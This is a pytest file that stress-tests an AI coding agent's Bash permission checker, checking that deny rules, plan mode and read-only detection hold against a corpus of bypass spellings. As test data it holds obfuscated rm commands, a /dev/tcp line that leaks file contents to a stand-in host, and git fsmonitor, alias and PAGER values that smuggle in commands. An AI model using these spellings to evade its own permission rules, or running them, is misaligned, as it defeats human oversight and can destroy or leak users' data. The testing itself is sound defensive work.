"""Bash deny rules, plan mode and read-only checks against the bypass corpus (issue 13, 1/2/8).

Each corpus spelling is first run by the real ``/bin/bash`` (the oracle) to prove it does what
the corpus says; then the permission checker must deny or ask it, never allow it, in every mode.
Ordinary commands must still be allowed by the rules that cover them.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from bash_corpus import (
    GIT_PUSH_BYPASSES,
    MUST_ALLOW,
    NOT_RUNNABLE_HERE,
    PLAN_MODE_WRITES,
    RM_BYPASSES,
    run_bash,
)
from subagents.abort import AbortSignal
from subagents.events import AgentRef
from subagents.permissions import (
    DenialLimits,
    PermissionChecker,
    PermissionContext,
    decide,
    parse_rule,
)
from subagents.tools.base import ToolContext
from subagents.tools.bash import BashTool
from subagents.tools.bash_parse import MAX_SCRIPT_CHARS
from subagents.tools.inputs.bash import BashInput

BASH = BashTool()
LOOSE_ALLOW = ("Bash(echo:*)", "Bash(true:*)", "Bash(cat:*)", "Bash(ls:*)", "Bash(env:*)")


def lay_out(folder: Path) -> None:
    """The files corpus spellings use: the victim, a script that deletes it, a list naming it."""
    (folder / "tgt").write_text("victim\n")
    (folder / "script.sh").write_text("rm tgt\n")
    (folder / "list").write_text("tgt\n")


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() if p.is_file() else b"<dir>" for p in folder.iterdir()}


def tool_ctx(folder: Path) -> ToolContext:
    return ToolContext(
        cwd=folder,
        roots=(folder,),
        abort=AbortSignal(),
        agent=AgentRef(agent_id="main", agent_type="general-purpose"),
    )


def context(folder: Path, mode: Any, *, deny: tuple[str, ...] = (), allow: tuple[str, ...] = ()):
    return PermissionContext(
        mode=mode,
        project_root=folder,
        home=folder,
        deny=tuple(parse_rule(r, "/s.json") for r in deny),
        allow=tuple(parse_rule(r, "/s.json") for r in allow),
    )


def behavior(ctx: PermissionContext, command: str, folder: Path) -> str:
    return decide(ctx, BASH, BashInput(command=command), tool_ctx(folder)).behavior


# --------------------------------------------------------------------------- the corpus is real


def test_corpus_is_large_enough() -> None:
    assert len(set(RM_BYPASSES)) == len(RM_BYPASSES) >= 150
    assert len(set(PLAN_MODE_WRITES)) >= 40
    assert set(NOT_RUNNABLE_HERE) <= set(RM_BYPASSES)


def test_oracle_every_rm_spelling_deletes_the_file(tmp_path: Path) -> None:
    """Unchecked, bash really deletes ``tgt`` with each spelling (the corpus is not made up)."""
    kept = []
    for index, command in enumerate(RM_BYPASSES):
        if command in NOT_RUNNABLE_HERE:
            continue
        folder = tmp_path / str(index)
        folder.mkdir()
        lay_out(folder)
        run_bash(command, folder)
        if (folder / "tgt").exists():
            kept.append(command)
    assert kept == []


def test_oracle_every_plan_mode_write_changes_the_folder(tmp_path: Path) -> None:
    unchanged = []
    for index, command in enumerate(PLAN_MODE_WRITES):
        folder = tmp_path / str(index)
        folder.mkdir()
        lay_out(folder)
        before = snapshot(folder)
        run_bash(command, folder)
        if snapshot(folder) == before:
            unchanged.append(command)
    assert unchanged == []


# --------------------------------------------------------------------------- never allowed


@pytest.mark.parametrize("mode", ["default", "acceptEdits", "bypassPermissions", "dontAsk"])
def test_no_rm_spelling_is_allowed(tmp_path: Path, mode: str) -> None:
    ctx = context(tmp_path, mode, deny=("Bash(rm:*)",), allow=LOOSE_ALLOW)
    escapes = [c for c in RM_BYPASSES if behavior(ctx, c, tmp_path) == "allow"]
    assert escapes == []


def test_plain_spellings_are_denied_not_just_asked(tmp_path: Path) -> None:
    """Where the checker can see the rm, the verdict is a deny (not a prompt)."""
    ctx = context(tmp_path, "bypassPermissions", deny=("Bash(rm:*)",))
    for command in ("'rm' tgt", "\\rm tgt", "$'\\x72m' tgt", "2>/dev/null rm tgt",
                    "bash -c 'rm tgt'", "eval 'rm tgt'", "find . -exec rm {} +",
                    "timeout 5 rm tgt", "sudo -u root rm tgt", "echo $(( $(rm tgt) 0 ))",
                    "env --ignore-signal rm tgt", "env --block-signal=INT rm tgt"):  # fmt: skip
        assert behavior(ctx, command, tmp_path) == "deny", command


@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
def test_no_git_push_spelling_is_allowed(tmp_path: Path, mode: str) -> None:
    ctx = context(tmp_path, mode, deny=("Bash(git push:*)",), allow=("Bash(git:*)", "Bash(cd:*)"))
    escapes = [c for c in GIT_PUSH_BYPASSES if behavior(ctx, c, tmp_path) == "allow"]
    assert escapes == []


@pytest.mark.parametrize("command", PLAN_MODE_WRITES + RM_BYPASSES)
def test_plan_mode_and_read_only_agents_refuse(tmp_path: Path, command: str) -> None:
    assert not BASH.is_read_only(BashInput(command=command))
    assert behavior(context(tmp_path, "plan"), command, tmp_path) == "deny"


# --------------------------------------------------------------------------- still allowed


@pytest.mark.parametrize(("command", "allow"), MUST_ALLOW)
def test_ordinary_commands_are_still_allowed(
    tmp_path: Path, command: str, allow: tuple[str, ...]
) -> None:
    ctx = context(tmp_path, "default", deny=("Bash(rm:*)", "Bash(git push:*)"), allow=allow)
    assert behavior(ctx, command, tmp_path) == "allow"
    bypass = context(tmp_path, "bypassPermissions", deny=("Bash(rm:*)", "Bash(git push:*)"))
    assert behavior(bypass, command, tmp_path) == "allow"


def test_read_only_ordinary_commands_run_in_plan_mode(tmp_path: Path) -> None:
    plan = context(tmp_path, "plan", deny=("Bash(rm:*)",))
    for command, allow in MUST_ALLOW:
        if not allow:
            assert behavior(plan, command, tmp_path) == "allow", command


def test_allow_rules_see_through_harmless_wrappers_only(tmp_path: Path) -> None:
    ctx = context(tmp_path, "default", allow=("Bash(npm test:*)", "Bash(timeout:*)"))
    assert behavior(ctx, "timeout 60 npm test", tmp_path) == "allow"
    assert behavior(ctx, "timeout 5 rm -rf x", tmp_path) == "ask"  # what runs is rm
    assert behavior(ctx, "sudo npm test", tmp_path) == "ask"  # sudo is not transparent
    assert behavior(ctx, "PAGER=x npm test", tmp_path) == "ask"  # PAGER may change it
    assert behavior(ctx, "bash -c 'npm test && rm x'", tmp_path) == "ask"
    assert behavior(ctx, "./npm test", tmp_path) == "ask"  # ./npm may be anything
    sudo = context(tmp_path, "default", allow=("Bash(sudo apt update)",))
    assert behavior(sudo, "sudo apt update", tmp_path) == "allow"


# --------------------------------------------------------------------------- messages


def test_opaque_command_asks_and_names_the_reason(tmp_path: Path) -> None:
    ctx = context(tmp_path, "bypassPermissions", deny=("Bash(rm:*)",))
    decision = decide(ctx, BASH, BashInput(command="X=rm; $X f"), tool_ctx(tmp_path))
    assert decision.behavior == "ask"
    assert "`$X`" in decision.message and "Bash(rm:*)" in decision.message
    decision = decide(ctx, BASH, BashInput(command="echo rm f | bash"), tool_ctx(tmp_path))
    assert "standard input" in decision.message
    # without deny or ask rules an opaque command is just not read-only: bypass allows it
    assert behavior(context(tmp_path, "bypassPermissions"), "X=rm; $X f", tmp_path) == "allow"
    assert behavior(context(tmp_path, "default"), "X=ls; $X", tmp_path) == "ask"


def test_unknown_program_naming_a_denied_one_is_asked(tmp_path: Path) -> None:
    ctx = context(tmp_path, "bypassPermissions", deny=("Bash(rm:*)",))
    decision = decide(ctx, BASH, BashInput(command="mywrap rm -rf x"), tool_ctx(tmp_path))
    assert decision.behavior == "ask" and "may run it" in decision.message
    assert behavior(ctx, "grep rm notes.txt", tmp_path) == "allow"  # grep is known
    assert behavior(ctx, "mywrap ls", tmp_path) == "allow"


def test_computed_words_may_match_a_deny_rule(tmp_path: Path) -> None:
    ctx = context(tmp_path, "bypassPermissions", deny=("Bash(git push --force:*)",))
    decision = decide(ctx, BASH, BashInput(command="git push $FLAGS"), tool_ctx(tmp_path))
    assert decision.behavior == "ask" and "may turn out to match" in decision.message
    assert behavior(ctx, "git push origin main", tmp_path) == "allow"
    assert behavior(ctx, "git push --force origin", tmp_path) == "deny"


# --------------------------------------------------------------------------- item 8: size


def huge_command(size: int) -> str:
    unit = "echo a && "
    return unit * (size // len(unit)) + "rm tgt"


async def test_event_loop_progresses_while_a_huge_command_is_checked(tmp_path: Path) -> None:
    """Another coroutine keeps running while a 250 KB command is analysed (progress, not timing).

    250 KB is close to the analysis cap (``MAX_SCRIPT_CHARS``); bash cannot even run a command
    half that long, so this is the most work one check can take."""
    ctx = context(tmp_path, "bypassPermissions", deny=("Bash(rm:*)",))
    checker = PermissionChecker(context=ctx, denial_limits=DenialLimits())
    ticks = 0
    done = asyncio.Event()

    async def ticker() -> None:
        nonlocal ticks
        while not done.is_set():
            ticks += 1
            await asyncio.sleep(0.001)

    task = asyncio.create_task(ticker(), name="ticker")
    await asyncio.sleep(0)
    before = ticks
    command = huge_command(MAX_SCRIPT_CHARS - 10)
    result = await checker(BASH, BashInput(command=command), tool_ctx(tmp_path))
    during = ticks - before
    done.set()
    await task
    assert result.behavior == "deny"
    assert "has been denied by rule 'Bash(rm:*)'" in (result.message or "")  # the last part seen
    assert during > 10


async def test_three_megabyte_command_is_bounded_and_fails_closed(tmp_path: Path) -> None:
    ctx = context(tmp_path, "bypassPermissions", deny=("Bash(rm:*)",))
    checker = PermissionChecker(context=ctx, denial_limits=DenialLimits())
    command = "echo a && " * 300_000 + "ls"
    result = await checker(BASH, BashInput(command=command), tool_ctx(tmp_path))
    assert result.behavior == "deny"  # asked (no one to ask): too long to analyse
    assert "not analysed" in (result.message or "")
    assert not BASH.is_read_only(BashInput(command=command))
    assert not BASH.is_concurrency_safe(BashInput(command=command))


def test_deep_nesting_does_not_crash(tmp_path: Path) -> None:
    ctx = context(tmp_path, "bypassPermissions", deny=("Bash(rm:*)",))
    deep = "echo " + "$(" * 20_000 + "rm tgt" + ")" * 20_000
    assert behavior(ctx, deep, tmp_path) == "deny"
    nested = "rm tgt"
    for _ in range(12):
        nested = "bash -c " + "'" + nested.replace("'", "'\\''") + "'"
    assert behavior(ctx, nested, tmp_path) != "allow"


GIT_REPO_WRITES = [
    "git remote -v add elsewhere https://example.invalid/x",
    "git stash list --output=out",
    "git rev-list HEAD --output=out",
    "git shortlog HEAD --output=out",
    "git blame tgt --output=out",
    "git reflog show --output=out",
    "git config elsewhere.x y --get",
]
"""Read-only looking git commands that write in a repository (the corpus runs outside one)."""


def test_git_commands_that_write_in_a_repository_are_not_read_only(tmp_path: Path) -> None:
    for index, command in enumerate(GIT_REPO_WRITES):
        folder = tmp_path / str(index)
        folder.mkdir()
        lay_out(folder)
        run_bash(
            "git init -q && git add tgt && git -c user.name=a -c user.email=a@b commit -qm a"
            " && echo changed > tgt && git stash -q",
            folder,
        )
        before = snapshot(folder / ".git") | snapshot(folder)
        run_bash(command, folder)  # the oracle: it does write
        assert snapshot(folder / ".git") | snapshot(folder) != before, command
        assert not BASH.is_read_only(BashInput(command=command)), command
        assert behavior(context(folder, "default"), command, folder) != "allow", command


@pytest.mark.parametrize(
    "command",
    [
        "date -s2030-01-01",
        "fd -xrm",
        "fd . -Xrm",
        "tree -oout",
        "tree -R -L 1",
        "sort --compress-program=sh tgt",
        "ag --pager='touch out' x",
        "ag --pag='touch out' x",
        "hostname -Fname-file",
        "hostname --file=name-file",
        "hostname -b",
        "hostname newname",
    ],
)
def test_a_forbidden_option_in_a_cluster_or_abbreviated_is_not_read_only(command: str) -> None:
    """Not run by the oracle (the clock and the host name; fd, tree and ag may be absent; sort
    compresses only with temporary files), spelled as the programs' parsers read them."""
    assert not BASH.is_read_only(BashInput(command=command))


@pytest.mark.parametrize(
    "command",
    [
        "git grep -n foo",
        "git log --oneline -5",
        "sort -n -r tgt",
        "date -u +%s",
        "file -b tgt",
        "git remote -v",
        "hostname",
        "hostname -f",
        "ag foo",
        "tree -L 2",
        "git config --get user.name",
        "git config --global --list",
        "git config -f .gitmodules --get-regexp path",
    ],
)
def test_ordinary_options_beside_forbidden_ones_are_still_read_only(command: str) -> None:
    assert BASH.is_read_only(BashInput(command=command))


@pytest.mark.parametrize("spelling", ["--git-dir=evil", "--git-dir evil", "-C . --git-dir=evil"])
def test_git_reading_its_config_from_a_folder_named_is_not_read_only(
    tmp_path: Path, spelling: str
) -> None:
    """``git --git-dir=evil status`` reads ``evil/config``, whose ``core.fsmonitor`` it runs:
    a folder the model can write (acceptEdits lets ``evil/config`` through: no ``.git`` in its
    path) turns a read-only looking status into any command."""
    lay_out(tmp_path)
    run_bash(
        "git init -q real && mv real/.git evil && rmdir real"
        " && git --git-dir=evil --work-tree=. add tgt"
        " && git --git-dir=evil config core.fsmonitor 'touch out; true'",
        tmp_path,
    )
    command = f"git {spelling} status --short"
    run_bash(command, tmp_path)
    assert (tmp_path / "out").exists()  # the oracle: git ran the config's command
    assert not BASH.is_read_only(BashInput(command=command))
    assert behavior(context(tmp_path, "default"), command, tmp_path) != "allow"
    assert BASH.is_read_only(BashInput(command="git -C . --no-pager status --short"))


def test_uniq_with_its_files_after_a_double_dash_is_not_read_only(tmp_path: Path) -> None:
    """After ``--`` a name starting with a dash is uniq's input and the next its output."""
    (tmp_path / "-in").write_text("a\n")
    command = "uniq -- -in out"
    run_bash(command, tmp_path)
    assert (tmp_path / "out").read_text() == "a\n"  # the oracle: it wrote out
    assert not BASH.is_read_only(BashInput(command=command))
    assert BASH.is_read_only(BashInput(command="uniq -c -- -in"))


@pytest.mark.skipif(not Path("/usr/bin/time").exists(), reason="no GNU time here")
def test_a_read_only_wrapper_with_an_option_that_writes_is_not_read_only(tmp_path: Path) -> None:
    """``time -o FILE`` (GNU time) writes its report; ``ionice -p``/``chrt -p`` change a
    running process. The wrappers are read-only without those options."""
    lay_out(tmp_path)
    run_bash("command time -o out ls", tmp_path)
    assert (tmp_path / "out").exists()  # the oracle: GNU time wrote its report
    for command in (
        "command time -o out ls",
        "/usr/bin/time -a -o out ls",
        "/usr/bin/time --output=out ls",
        "ionice -c3 -p 1",
        "chrt -p 0 1",
    ):
        assert not BASH.is_read_only(BashInput(command=command)), command
        assert behavior(context(tmp_path, "default"), command, tmp_path) != "allow", command
    for command in ("time ls", "/usr/bin/time -f %e ls -o", "ionice -c3 ls", "chrt -b 0 ls"):
        assert BASH.is_read_only(BashInput(command=command)), command


def test_a_redirection_from_bash_s_network_paths_is_not_read_only(tmp_path: Path) -> None:
    """``cat < /dev/tcp/HOST/PORT``: bash opens a connection, so data leaves (its host name
    alone can carry a secret read by a read-only command substitution); ``< $F`` may be such a
    path. A plain file or here-document read stays read-only."""
    import socket

    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(10)
    port = listener.getsockname()[1]
    try:
        command = f"cat < /dev/tcp/127.0.0.1/{port}"
        run_bash(f"timeout 5 {command}", tmp_path)
        connection, _ = listener.accept()  # the oracle: bash did connect
        connection.close()
    finally:
        listener.close()
    for spelling in (
        command,
        "cat 0</dev/udp/127.0.0.1/9",
        "head < /dev/tcp/$(head -c 9 tgt).example/80",
        'cat < "$F"',
    ):
        assert not BASH.is_read_only(BashInput(command=spelling)), spelling
        assert behavior(context(tmp_path, "default"), spelling, tmp_path) != "allow", spelling
    for spelling in ("cat < tgt", "wc -l < tgt", "cat <<< x", "cat <&3"):
        assert BASH.is_read_only(BashInput(command=spelling)), spelling


def test_a_command_stored_for_a_program_to_run_is_asked(tmp_path: Path) -> None:
    """``Bash(git:*)`` allowed, ``Bash(rm:*)`` denied: a git alias, ssh command or pager set to
    an ``rm`` (in the same command) is asked, naming where it is stored; a value that names no
    denied program, and a commit message, stay allowed."""
    ctx = context(tmp_path, "default", deny=("Bash(rm:*)",), allow=("Bash(git:*)",))
    for command, where in [
        ("git config alias.x '!rm tgt' && git x", "git config alias.x"),
        ("GIT_SSH_COMMAND='rm tgt' git fetch ssh://x/y", "GIT_SSH_COMMAND"),
        ("export PAGER='rm tgt'; git -p log", "PAGER"),
    ]:
        decision = decide(ctx, BASH, BashInput(command=command), tool_ctx(tmp_path))
        assert decision.behavior == "ask", command
        assert f"{where} is set to text that names what rule 'Bash(rm:*)'" in decision.message
    for command in ("git config user.name 'A Person'", "git commit -m 'rm the old file'"):
        assert behavior(ctx, command, tmp_path) == "allow", command
